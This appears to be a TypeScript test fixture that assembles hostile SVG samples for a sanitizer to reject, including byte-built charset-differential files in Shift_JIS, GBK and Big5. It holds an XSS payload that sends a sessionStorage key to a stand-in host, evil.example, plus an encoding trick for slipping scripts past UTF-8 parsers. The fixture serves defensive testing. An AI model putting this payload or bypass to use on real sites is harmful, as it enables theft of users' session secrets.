/**
 * The hostile SVGs every check of published files must refuse, wherever in public/ or the export
 * they sit: the files of hostile-svgs/ (scripts under any prefix, event handlers, links out, pieces
 * of web page, DTD entities, animation that sets a link, CSS that loads from elsewhere, a `<use>`
 * bomb and loop, nesting past the bound) and the files in other encodings, built here byte by byte
 * as an editor saves them: the CDATA-and-comment differential in Shift_JIS, GBK and Big5 (one
 * `<text>` and a comment to a UTF-8 reader, a live `<script>` to a browser honouring the encoding),
 * UTF-16 with and without its mark, and Latin-1 bytes.
 */
import fs from 'node:fs';
import path from 'node:path';

export const CORPUS_DIR = path.join(__dirname, 'hostile-svgs');

const OPEN = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10">';
const bytes = (...parts: (string | number)[]) =>
  new Uint8Array(parts.flatMap((p) => (typeof p === 'number' ? [p] : [...new TextEncoder().encode(p)])));
const utf16le = (text: string) => [...text].flatMap((c) => [c.charCodeAt(0) & 0xff, c.charCodeAt(0) >> 8]);

/** The differential: `lead` and `]` are one character in `encoding`, so the CDATA runs on into the comment. */
export const differential = (encoding: string, lead: number) =>
  bytes(
    `<?xml version="1.0" encoding="${encoding}"?>\n${OPEN}\n<text><![CDATA[`,
    lead,
    ']]></text><!-- ]]></text><script>fetch("https://evil.example/?" + sessionStorage.getItem("member-key"))</script> -->\n</svg>\n',
  );

const BUILT: Record<string, Uint8Array> = {
  'shift-jis-cdata-differential.svg': differential('Shift_JIS', 0x81),
  'gbk-cdata-differential.svg': differential('GBK', 0x81),
  'big5-cdata-differential.svg': differential('Big5', 0xa4),
  'utf-16-with-mark.svg': bytes(0xff, 0xfe, ...utf16le(`${OPEN}<script>alert(1)</script></svg>`)),
  'utf-16-without-mark.svg': bytes(...utf16le(`<?xml version="1.0" encoding="UTF-16"?>${OPEN}<script>alert(1)</script></svg>`)),
  'latin-1-bytes.svg': bytes(`${OPEN}\n<title>Caf`, 0xe9, '</title>\n</svg>\n'),
};

/** Every hostile SVG by file name, with its bytes. */
export function hostileSvgs(): { name: string; bytes: Uint8Array }[] {
  const files = fs
    .readdirSync(CORPUS_DIR)
    .filter((name) => name.endsWith('.svg'))
    .map((name) => ({ name, bytes: new Uint8Array(fs.readFileSync(path.join(CORPUS_DIR, name))) }));
  return [...files, ...Object.entries(BUILT).map(([name, b]) => ({ name, bytes: b }))].sort((a, b) => a.name.localeCompare(b.name));
}
